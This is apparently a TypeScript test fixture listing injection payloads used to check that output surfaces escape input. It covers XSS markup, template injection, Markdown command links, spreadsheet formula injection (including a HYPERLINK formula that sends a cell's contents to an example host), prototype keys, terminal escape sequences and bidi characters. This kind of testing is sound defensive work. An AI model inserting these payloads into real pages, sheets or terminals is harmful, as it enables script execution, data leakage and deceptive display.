/**
 * Words that do harm where somebody takes them for more than words. Every surface is tried with them: a new attack is a row more.
 */
export const attacks = {
  script: '<script>window.harmed=true</script>',
  image: '<img src=x onerror="window.harmed=true">',
  attribute: '"><svg onload="window.harmed=true">',
  quote: `' onmouseover='window.harmed=true`,
  closing: '</p></style></title>]]>-->',
  template: '{{constructor.constructor("window.harmed=true")()}}',
  address: '[click](https://example.org/?x) <https://example.org>',
  picture: '![x](https://example.org/x.png)',
  command: '[click](command:workbench.action.quit) **bold**',
  icon: '$(alert)',
  formula: '=HYPERLINK("https://example.org?"&A1,"click")',
  formulaPlus: '+cmd|x',
  formulaAt: '@SUM(1)',
  formulaTab: '\t=1+1',
  entity: '&lt;b&gt;&harm;',
  prototype: '__proto__',
  constructor: 'constructor',
  /** Colours, a cleared screen, a title, a link (OSC 8), and the same begun by one control sign (C1). */
  colour: 'a\u001b[31mb',
  screen: 'a\u001b[2J\u001b[Hb',
  title: 'a\u001b]0;title\u0007b',
  link: 'a\u001b]8;;https://example.org\u001b\\click\u001b]8;;\u001b\\b',
  control: 'a\u009b31mb',
  carriage: 'a\rb',
  bidi: 'a\u202egnp.b',
  invisible: 'a\u200b\u2066b',
} as const;

/** What a browser would run or load. */
export const markup: readonly string[] = [
  attacks.image,
  attacks.script,
  attacks.attribute,
  attacks.quote,
  attacks.closing,
  attacks.template,
  attacks.entity,
];

/** What Markdown would make a link, a picture or a command of. */
export const markdown: readonly string[] = [attacks.command, attacks.address, attacks.picture, attacks.image];

/** What a spreadsheet would compute. */
export const formulas: readonly string[] = [
  attacks.formula,
  attacks.formulaPlus,
  attacks.formulaAt,
  attacks.formulaTab,
];

/** What a terminal, or the eye of its reader, would obey. */
export const terminal: readonly string[] = [
  attacks.colour,
  attacks.screen,
  attacks.title,
  attacks.link,
  attacks.control,
  attacks.carriage,
  attacks.bidi,
  attacks.invisible,
];
